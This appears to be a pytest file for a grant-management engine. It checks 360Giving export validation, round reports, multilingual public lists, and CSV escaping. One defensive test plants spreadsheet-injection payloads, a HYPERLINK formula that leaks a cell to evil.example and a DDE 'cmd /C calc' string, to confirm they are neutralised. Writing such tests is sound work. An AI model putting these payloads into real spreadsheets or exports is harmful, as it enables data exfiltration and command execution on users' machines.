"""After the decisions: the round report, the public list of approved projects, and
the 360Giving export, validated with `jsonschema` against the standard's official
schemas (the package schema's reference to the grant schema resolved locally)."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from jsonschema import Draft202012Validator
from referencing import Registry
from referencing.jsonschema import DRAFT202012
from sqlmodel import select

from domain.committee import DecisionIn
from engine.db import unit_of_work
from engine.services.committee.decisions import record_decisions
from engine.services.csvfile import spreadsheet_cell
from engine.services.errors import NotAllowed
from engine.services.letters import send_decision_letters
from engine.services.opendata import export_360giving, validation_errors, write_round_report
from engine.services.report import write_report
from engine.services.setup import Runtime
from engine.tables import Application
from tests.conftest import ROUND1

OFFICIAL = Path(__file__).resolve().parents[3] / "shared" / "standards" / "360giving"
AT = datetime(2018, 10, 3, 15, tzinfo=UTC)


@pytest.fixture
def decided(committee: Runtime) -> Runtime:
    with unit_of_work(committee.engine) as session:
        record_decisions(
            session,
            ROUND1,
            [
                (
                    DecisionIn(
                        reference="SIP-2018-R1-0001",
                        decision="approved_with_conditions",
                        amount=Decimal("150000"),
                        conditions="Name the district focal points.",
                    ),
                    "1",
                ),
                (
                    DecisionIn(reference="SIP-2018-R1-0004", decision="not_approved", recommendations="Baseline data."),
                    "2",
                ),
            ],
            actor="officer",
            at=AT,
        )
        send_decision_letters(session, committee.settings, ROUND1, actor="officer", at=AT)
    return committee


def official_validator() -> Draft202012Validator:
    """The official schemas as published (a copy outside the engine's own)."""
    folder = OFFICIAL if OFFICIAL.exists() else Path(__file__).resolve().parents[2] / "engine" / "data" / "360giving"
    package = json.loads((folder / "360-giving-package-schema.json").read_text())
    grant = DRAFT202012.create_resource(json.loads((folder / "360-giving-schema.json").read_text()))
    registry = Registry().with_resource(package["properties"]["grants"]["items"]["$ref"], grant)
    return Draft202012Validator(package, registry=registry, format_checker=Draft202012Validator.FORMAT_CHECKER)


def test_the_awarded_grants_export_validates_against_the_official_360giving_schema(
    decided: Runtime, tmp_path: Path
) -> None:
    with unit_of_work(decided.engine) as session:
        path, count = export_360giving(session, decided.settings, ROUND1, tmp_path / "grants.json")
    package = json.loads(path.read_text())
    assert count == 1 and list(official_validator().iter_errors(package)) == []
    grant = package["grants"][0]
    assert grant["id"] == "XM-DAC-41116-SIP-2018-R1-0001" and grant["amountAwarded"] == 150000
    assert grant["recipientOrganization"][0]["name"] == "Government of Benin"
    assert grant["fundingOrganization"][0]["id"] == "XM-DAC-41116" and grant["currency"] == "USD"
    assert grant["grantProgramme"] == [
        {"code": ROUND1, "title": "Specific International Programme – first round (2018)"}
    ]
    assert grant["awardDate"] == "2018-10-03" and grant["beneficiaryLocation"][0]["countryCode"] == "BJ"


def test_a_package_that_breaks_the_schema_is_named_field_by_field() -> None:
    problems = validation_errors({"grants": [{"id": "x", "awardDate": "3 October 2018", "currency": "usd"}]})
    assert any(p.startswith("grants/0/awardDate") for p in problems)
    assert any(p.startswith("grants/0/currency") for p in problems)


def test_the_round_report_and_the_public_list_give_approvals_by_region_ldc_and_sids(
    decided: Runtime, tmp_path: Path
) -> None:
    with unit_of_work(decided.engine) as session:
        report, report_csv, public, public_csv, *_ = write_round_report(session, ROUND1, tmp_path)
    html = report.read_text()
    assert "Africa" in html and "LDC" in html and "150,000.00" in html
    rows = report_csv.read_text().splitlines()
    assert rows[0].startswith("reference,party,party_name,region,ldc,sids") and len(rows) == 5
    assert public_csv.read_text().splitlines()[1:] == [
        "SIP-2018-R1-0001,Benin,Africa,Réduction de l'utilisation du mercure dans l'orpaillage artisanal au nord "
        "du Bénin,150000.00,2018-10-03"
    ]
    assert "Cameroon" not in public.read_text()


def test_there_is_nothing_to_publish_before_the_decisions_and_their_letters(committee: Runtime, tmp_path: Path) -> None:
    with pytest.raises(NotAllowed, match="follow the committee's decisions"), unit_of_work(committee.engine) as session:
        export_360giving(session, committee.settings, ROUND1, tmp_path / "g.json")
    with unit_of_work(committee.engine) as session:
        record_decisions(
            session,
            ROUND1,
            [
                (DecisionIn(reference="SIP-2018-R1-0001", decision="approved", amount=Decimal("150000")), "1"),
                (DecisionIn(reference="SIP-2018-R1-0004", decision="deferred", recommendations="Later."), "2"),
            ],
            actor="officer",
            at=AT,
        )
    with pytest.raises(NotAllowed, match="have not been sent their letters"), unit_of_work(committee.engine) as session:
        export_360giving(session, committee.settings, ROUND1, tmp_path / "g.json")
    with unit_of_work(committee.engine) as session:
        _, _, public, _, *_ = write_round_report(session, ROUND1, tmp_path)
    assert "The Steering Committee approved 0 projects" in public.read_text()


def test_no_csv_the_engine_writes_lets_a_spreadsheet_run_what_an_applicant_or_the_committee_typed(
    committee: Runtime, tmp_path: Path
) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Open the dossier")'
    with unit_of_work(committee.engine) as session:
        application = session.exec(select(Application).where(Application.reference == "SIP-2018-R1-0001")).one()
        application.title = formula  # as the applicant sent it in form A
        session.add(application)
        record_decisions(
            session,
            ROUND1,
            [
                (
                    DecisionIn(
                        reference="SIP-2018-R1-0001",
                        decision="approved_with_conditions",
                        amount=Decimal("150000"),
                        conditions="@SUM(1+1)*cmd|' /C calc'!A0",
                    ),
                    "1",
                ),
                (DecisionIn(reference="SIP-2018-R1-0004", decision="not_approved"), "2"),
            ],
            actor="officer",
            at=AT,
        )
        send_decision_letters(session, committee.settings, ROUND1, actor="officer", at=AT)
    with unit_of_work(committee.engine) as session:
        _, screening_csv = write_report(session, ROUND1, tmp_path / "screening")
        _, round_csv, _, public_csv, *_ = write_round_report(session, ROUND1, tmp_path / "round")
    for written in (screening_csv, round_csv, public_csv):
        cells = [cell for row in csv.reader(io.StringIO(written.read_text())) for cell in row]
        assert "'" + formula in cells, written.name  # kept, as text
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells), written.name
    round_cells = [cell for row in csv.reader(io.StringIO(round_csv.read_text())) for cell in row]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in round_cells


def test_a_spreadsheet_cell_keeps_numbers_and_plain_text_as_they_are() -> None:
    assert [spreadsheet_cell(v) for v in (None, True, -12.5, "-3", "+4", "Réduction", "-", "- a list", "\tx")] == [
        "",
        "true",
        "-12.5",
        "-3",
        "+4",
        "Réduction",
        "'-",
        "'- a list",
        "'\tx",
    ]


def test_the_public_list_is_in_three_languages_with_plural_forms_and_links_the_open_data(
    decided: Runtime, tmp_path: Path
) -> None:
    with unit_of_work(decided.engine) as session:
        written = write_round_report(session, ROUND1, tmp_path, decided.settings)
    names = sorted(p.name for p in written)
    assert f"grants-{ROUND1}.json" in names
    english = (tmp_path / f"approved-{ROUND1}.html").read_text()
    french = (tmp_path / f"approved-{ROUND1}.fr.html").read_text()
    spanish = (tmp_path / f"approved-{ROUND1}.es.html").read_text()
    assert "The Steering Committee approved 1 project, $150,000.00 in all." in english
    assert "project(s)" not in english
    assert '<html lang="fr">' in french and "Bénin" in french and "150\u202f000,00\xa0$US" in french
    assert '<html lang="es">' in spanish and "Benín" in spanish and "África" in spanish
    for page in (english, french, spanish):
        assert f'<a href="grants-{ROUND1}.json" type="application/json">' in page  # the open data, linked
        assert f'href="approved-{ROUND1}.fr.html"' in page or '<strong lang="fr">' in page
    assert json.loads((tmp_path / f"grants-{ROUND1}.json").read_text())["grants"][0]["amountAwarded"] == 150000
